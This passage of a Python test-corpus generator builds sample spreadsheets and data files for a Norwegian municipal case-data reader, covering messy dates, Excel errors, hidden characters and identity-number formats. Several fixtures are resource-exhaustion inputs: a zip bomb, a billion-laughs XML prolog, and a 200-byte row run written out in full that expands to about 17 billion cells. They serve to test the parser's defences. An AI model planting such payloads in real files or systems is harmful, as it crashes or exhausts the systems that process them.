        [None, dt.date(2024, 1, 1), None], ["S-2", dt.date(2024, 1, 1), None]], merges=["A2:A3", "C2:C3"])])
    files["ods_merged_case_id_services.ods"] = ods_bytes_of([
        base_sheet("cases"),
        Sheet("services", [columns_of("services"),
                           ["S-1", "hjemmesykepleie", None, "Hjemmetjenesten sør", dt.date(2024, 1, 1), None],
                           [None, "fysioterapi", "helse", "Fysioterapitjenesten", dt.date(2024, 2, 1), None],
                           ["S-2", "avlastning", "omsorg", "Åsen avlastning", dt.date(2025, 7, 1), None]],
              merges=["A2:A3"]),
        *base_sheets()[2:]])
    phantom = base_sheets()
    phantom[0].far = [("Z1048576", " ")]  # a space typed far away: a text cell of white space
    phantom[5].far = [("AB1048000", Inline("   "))]
    files["ods_phantom_blank_cell.ods"] = ods_bytes_of(phantom)
    far = base_sheets()
    far[0].far = [("XFD1048576", "glemt her")]
    files["ods_far_value.ods"] = ods_bytes_of(far)
    trailing = (f'<table:table-row table:style-name="ro1" table:number-rows-repeated="{ODS_ROWS - 4}">'
                f"{ods_cell(None, ODS_COLUMNS)}</table:table-row>")  # after the cases sheet's four rows
    runs = ('<table:table-row table:style-name="ro1" table:number-rows-repeated="1048000"><table:table-cell '
            'office:value-type="string" calcext:value-type="string" table:number-columns-repeated="16384">'
            "<text:p>x</text:p></table:table-cell></table:table-row>")  # 17 billion cells in 200 bytes
    content = ods_content(base_sheets())
    assert trailing in content
    files["ods_repeated_values.ods"] = ods_zip([("content.xml", content.replace(trailing, runs, 1).encode()),
                                                *ods_parts(base_sheets())[1:]])
    files["ods_bomb.ods"] = bomb_ods(60)
    files["ods_billion_laughs.ods"] = ods_bytes_of(base_sheets(), prolog=LAUGHS)
    files["ods_encrypted.ods"] = encrypted_ods_bytes()
    files["ods_truncated.ods"] = files["ods_base.ods"][: len(files["ods_base.ods"]) // 2]
    merged = base_sheets(nb=True)
    merged[0].rows[0][1:3] = ["Datoer", None]
    merged[0].merges = ["B1:C1"]
    files["ods_merged_header.ods"] = ods_bytes_of(merged)
    uncached = base_sheets()
    uncached[0].rows[1][2] = F("DATE(1980;5;1)", None, style=STYLE_DATE)
    uncached[0].rows[2][2] = F("DATE(2015;3;3)", None, style=STYLE_DATE)
    files["ods_formula_uncached.ods"] = ods_bytes_of(uncached)
    files["ods_blank_rows_above_header.ods"] = ods_bytes_of([
        Sheet("saker", [[], [], [None, "sak_id", "åpnet"], [None, "S-1", dt.date(2024, 1, 1)]])])
    files["ods_empty_cases_sheet.ods"] = ods_bytes_of([Sheet("saker", []), *base_sheets(nb=True)[1:]])
    files["ods_is_text_document.ods"] = ods_zip(ods_parts([Sheet("cases", [["case_id"], ["S-1"]])]),
                                                mime=b"application/vnd.oasis.opendocument.text")

    # --- the second wave's tables (ip_gjennomganger, ke_rutiner) and cases.unit, in bokmål, three forms
    files.update(second_wave_files())
    return files


# --------------------------------------------------------------------------------------
# SECOND_WAVE: cases.unit, ip_reviews and ke_routines under their bokmål names
# --------------------------------------------------------------------------------------
# Three cases without services, coordinators, plans or groups, so that no rule finds anything
# (the four routines KE-SYSTEM-ROUTINES requires by default are there, revised and filed; the
# review is of a case without a plan): the files are about reading and problems. Problems:
#   ip_gjennomganger row 3: S-9 is no case                        -> error, set aside
#   ip_gjennomganger row 4: mål = "kanskje"                       -> warning, taken as empty
#   ke_rutiner row 5: «Kvalitetsrutiner» is no KE task            -> error, set aside
#   ke_rutiner row 7: i_kvalitetssystemet = "delvis"              -> warning, taken as empty
# Every date is on or before D: a revision or evaluation after D is a data-quality warning of
# the rules, which this entry does not test.

SECOND_WAVE: dict[str, list[list[Any]]] = {
    "saker": [
        ["sak_id", "fødselsdato", "åpnet", "ønsker_koordinator", "enhet"],
        ["S-1", "1980-05-01", "2024-01-10", False, "  Hjemmetjenesten sone nord "],
        ["S-2", "2015-03-03", "2025-06-01", None, None],
        ["S-3", "1990-01-01", "2023-01-01", False, "Barn og familie"],
    ],
    "ip_gjennomganger": [
        ["sak_id", "gjennomgått", "gjennomgått_av", "mål", "deltakere", "koordinator", "bidrag", "tiltak",
         "gjennomføring", "planperiode", "samtykke", "samarbeid"],
        ["S-1", "2026-03-01", "KE-leder", True, True, True, False, True, True, True, None, True],
        ["S-9", "2026-03-02", "KE-leder", True, True, True, True, True, True, True, True, True],
        ["S-2", "2026-03-03", "Rådgiver", "kanskje", True, True, True, True, True, True, True, True],
    ],
    "ke_rutiner": [
        ["oppgave", "tittel", "eier", "sist_revidert", "i_kvalitetssystemet"],
        ["Motta meldinger", "Mottak av meldinger til KE", "KE-leder", "2026-01-15", True],
        ["meldinger", "Mottak av meldinger (gammel)", "KE-leder", "2014-05-01", False],
        ["Utarbeide rutiner for arbeidet med individuell plan og koordinator", "IP-rutine", "KE-leder",
         "2025-06-01", True],
        ["Kvalitetsrutiner", "Avvikshåndtering", "Kvalitetsrådgiver", "2025-01-01", True],
        ["Oppnevning av koordinator", "Oppnevning", "KE-leder", "2024-12-01", True],
        ["informasjon", "Informasjon på nettsidene", "Kommunikasjon", "2019-02-01", "delvis"],
        ["Opplæring og veiledning av koordinatorer", "Opplæringsplan for koordinatorer", "KE-leder",
         "2025-09-01", True],
    ],
}
SECOND_WAVE_DATES = {"fødselsdato", "åpnet", "gjennomgått", "sist_revidert"}


def second_wave_files() -> dict[str, bytes]:
    """SECOND_WAVE as json (ISO text, JSON booleans), a Windows-1252 ';' csv folder (d.m.yyyy, ja/nei)
    and an xlsx workbook (date and boolean cells)."""
    out: dict[str, bytes] = {}
    out["json_second_wave_nb.json"] = json_bytes(
        {name: [dict(zip(rows[0], r, strict=True)) for r in rows[1:]] for name, rows in SECOND_WAVE.items()})
    for name, rows in SECOND_WAVE.items():
        text = [rows[0]] + [[text_of(v, date_style="no") if c in SECOND_WAVE_DATES else text_of(v)
                             for c, v in zip(rows[0], r, strict=True)] for r in rows[1:]]
        out[f"csv_second_wave_cp1252/{name}.csv"] = csv_bytes(text, delimiter=";", encoding="cp1252")
    sheets = []
    for name, rows in SECOND_WAVE.items():
        cells = [rows[0]] + [[as_date(v) if c in SECOND_WAVE_DATES and v else v
                              for c, v in zip(rows[0], r, strict=True)] for r in rows[1:]]
        sheets.append(Sheet(name, cells))
    out["xlsx_second_wave.xlsx"] = xlsx_bytes(sheets)
    # a routines sheet without its required task column: refused, naming the column
    out["xlsx_ke_rutiner_without_task.xlsx"] = xlsx_bytes(
        [sheets[0], Sheet("ke_rutiner", [r[1:] for r in sheets[2].rows])])
    return out


def ods_bytes() -> bytes:
    """A minimal OpenDocument spreadsheet (LibreOffice's .ods): the stored mimetype member first."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="cases"><table:table-row><table:table-cell office:value-type="string">'
               '<text:p>case_id</text:p></table:table-cell></table:table-row><table:table-row>'
               '<table:table-cell office:value-type="string"><text:p>S-1</text:p></table:table-cell>'
               '</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("mimetype", date_time=STAMP)
        info.compress_type = zipfile.ZIP_STORED
        z.writestr(info, b"application/vnd.oasis.opendocument.spreadsheet")
        for name, body in (("content.xml", content), ("META-INF/manifest.xml", manifest)):
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, body.encode("utf-8"), compresslevel=6)
    return buf.getvalue()


def issue10_values() -> dict[str, bytes]:
    """Cell values a KE's files hold that were lost, leaked or crashed before issue 10."""
    out: dict[str, bytes] = {}
    # a CSV export of a sheet whose lookups failed: Excel writes the error values as text
    # (#I/T is Norwegian Excel's #N/A)
    out["csv_excel_error_ids/cases.csv"] = csv_bytes([
        ["case_id", "opened_on", "ip_started_on", "kommunenummer", "ønsker_koordinator"],
        ["S-1", "2024-01-01", "2024-02-01", "#REF!", "ja"],
        ["#N/A", "2024-01-01", "2024-02-01", "1112", "ja"],
        ["S-2", "#VALUE!", "2024-02-01", "1112", "#DIV/0!"],
        ["#I/T", "2024-01-01", "", "", ""],
        ["#N/A", "2024-01-01", "", "", ""],
    ], delimiter=";", encoding="cp1252")
    out["csv_excel_error_ids/services.csv"] = csv_bytes([
        ["case_id", "service", "category", "start_date"],
        ["#N/A", "fysioterapi", "helse", "2024-01-01"],
        ["S-1", "#NAME?", "helse", "2024-01-01"],
        ["S-1", "hjemmesykepleie", "#N/A", "2024-01-01"],
    ], delimiter=";", encoding="cp1252")
    # ids copied from a web page or a PDF: zero-width spaces, a word joiner, a BOM, a soft hyphen
    out["json_zero_width_ids.json"] = json_bytes({
        "cases": [{"case_id": "S-1", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": "S-1\u200b", "opened_on": "2024-01-01"},
                  {"case_id": "\ufeffS-2", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": "S-\u20603", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": "\u200b", "opened_on": "2024-01-01"}],
        "consents": [{"case_id": "S-2\u200d", "scope": "ip", "given_on": "2024-01-01"},
                     {"case_id": "S-3", "scope": "al\u00adle", "given_on": "2024-01-01"}],
    })
    # counts no one keeps: beyond 64 bits, 1e30 as a number and as text, 10**30
    out["json_huge_numbers.json"] = json_bytes({
        "cases": [{"case_id": "S-1"}],
        "coordinators": [{"coordinator_id": "K-1", "agreed_max_cases": 2**64 - 1},
                         {"coordinator_id": "K-2", "agreed_max_cases": 1e30},
                         {"coordinator_id": "K-3", "agreed_max_cases": "1e30"},
                         {"coordinator_id": "K-4", "agreed_max_cases": "99999999999999999999"},
                         {"coordinator_id": "K-5", "agreed_max_cases": 1_000_001},
                         {"coordinator_id": "K-6", "agreed_max_cases": 1_000_000},
                         {"coordinator_id": "K-7", "agreed_max_cases": 2.5},
                         {"coordinator_id": "K-8", "agreed_max_cases": -(10**30)},
                         {"coordinator_id": "K-9", "agreed_max_cases": 99999999999999999999},
                         {"coordinator_id": "K-10", "agreed_max_cases": 10**30}],
    })
    # half an emoji from another program: JSON can carry a lone surrogate as an escape
    out["json_lone_surrogate.json"] = json.dumps({
        "cases": [{"case_id": "S-\ud83d", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": "S-1", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"}],
        "coordinators": [{"coordinator_id": "K-1", "name": "Ola \ud83d", "unit": "Enhet \udc00"}],
        "services": [{"case_id": "S-1", "service": "fysioterapi\ud83d", "category": "helse",
                      "start_date": "2024-01-01"}],
    }, ensure_ascii=True, indent=1).encode("ascii")
    # identity numbers as DDMMYY-NNNNN and DDMMYY.NNNNN, and one at character 190 of a long value
    # (an input problem shows 200 characters: cut first, 10 of its 11 digits were left)
    late = "Notat fra telefonsamtale med pårørende om videre oppfølging, " * 3
    late = (late + "x" * 190)[:190] + FNR_LATE + " ringes tilbake"
    out["csv_fnr_hyphen_dot_late/cases.csv"] = csv_bytes([
        ["case_id", "opened_on", "ip_started_on", "merknad"],
        ["S-1", "2024-01-01", "2024-02-01", f"fnr {FNR_HYPHEN[:6]}-{FNR_HYPHEN[6:]}"],
        [f"{FNR_DOT[:6]}.{FNR_DOT[6:]}", "2024-01-01", "2024-02-01", ""],
        ["S-2", late, "2024-02-01", f"mor: {FNR_LATE[:6]}.{FNR_LATE[6:]}"],
    ], delimiter=";", encoding="cp1252")
    out["csv_fnr_hyphen_dot_late/services.csv"] = csv_bytes([
        ["case_id", "service", "category", "start_date"],
        ["S-1", late, "", "2024-01-01"],
    ], delimiter=";", encoding="cp1252")
    return out


def messy_xlsx_sheets() -> list[Sheet]:
    """BASE as a hand-kept workbook: one date column in every spelling, date-times, bool cells and 'x',
    trailing spaces, empty rows in the middle, an extra column, a stray header-less value."""
    cases = [
        ["sak_id ", " Fødselsdato", "ÅPNET", "avsluttet", "ønsker_koordinator", "langvarig_behov", "ip_startet",
         "pårørende_kartlagt", "kommunenummer", "merknad"],
        ["S-1 ", "1.5.1980", dt.datetime(2024, 1, 10, 13, 45), None, True, "x", "01.02.2024", None, 1112, "ok"],
        [None, None, None, None, None, None, None, None, None, None],
        ["", " ", None],
        [" S-2", dt.date(2015, 3, 3), "2025-06-01", None, "Ja ", False, "2025-7-1", "01.07.2025", "1112", None,
         None],
        ["S-3", "1990-01-01", dt.date(2023, 1, 1), "01.01.2024", "nei", "nei", None, None, 1112.0, None, "ekstra"],
    ]
    sheets = [Sheet("saker", cases)]
    for t in BASE:
        if t != "cases":
            sheets.append(base_sheet(t, nb=True))
    return sheets


def formula_sheets() -> list[Sheet]:
    """BASE with formulas whose results Excel stored: dates, ids, yes/no and numbers computed."""
    sheets = base_sheets()
    cases = sheets[0].rows
    cases[1][0] = F('"S-"&1', "S-1", "str")
    cases[1][2] = F("DATE(1980,5,1)", serial(dt.date(1980, 5, 1)), style=STYLE_DATE)
    cases[1][6] = F("TRUE()", 1, "b")
    cases[2][4] = F('IF(1>2,"x","")', "", "str")  # an empty-text result: closed_on stays empty
    cases[2][1] = F('TEXT(1112,"0")', "1112", "str")
    sheets[5].rows[1][3] = F("DATE(2026,9,10)", serial(dt.date(2026, 9, 10)), style=STYLE_DATE)
    sheets[5].rows[1][5] = F("D2-9", serial(dt.date(2026, 9, 1)), style=STYLE_DATE)
    sheets[2].rows[2][4] = F("1+2", 3)  # coordinators.agreed_max_cases
    return sheets


def write(folder: Path = HERE) -> list[str]:
    files = corpus()
    for rel, body in files.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)
    return sorted(files)


def check(folder: Path = HERE) -> int:
    files = corpus()
    bad = [rel for rel, body in files.items() if not (folder / rel).is_file() or (folder / rel).read_bytes() != body]
    extra = [str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()
             and p.name not in OWN_FILES | KEPT_FILES and "__pycache__" not in p.parts
             and str(p.relative_to(folder)) not in files]
    for rel in bad:
        print(f"differs or missing: {rel}")
    for rel in extra:
        print(f"not written by make_corpus.py: {rel}")
    return 1 if bad or extra else 0


if __name__ == "__main__":
    if "--check" in sys.argv[1:]:
        sys.exit(check())
    for rel in write():
        print(rel)
